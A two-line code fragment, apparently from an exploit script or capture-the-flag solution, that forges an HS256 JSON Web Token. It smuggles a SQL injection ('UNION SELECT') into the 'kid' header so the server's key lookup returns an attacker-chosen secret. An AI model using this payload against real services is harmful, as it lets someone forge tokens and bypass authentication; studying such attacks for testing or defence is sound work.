# requirement: the text has to end
queried = forge({"alg": "HS256", "kid": "UNION SELECT 'mine"}, wanted, secret=b"mine")
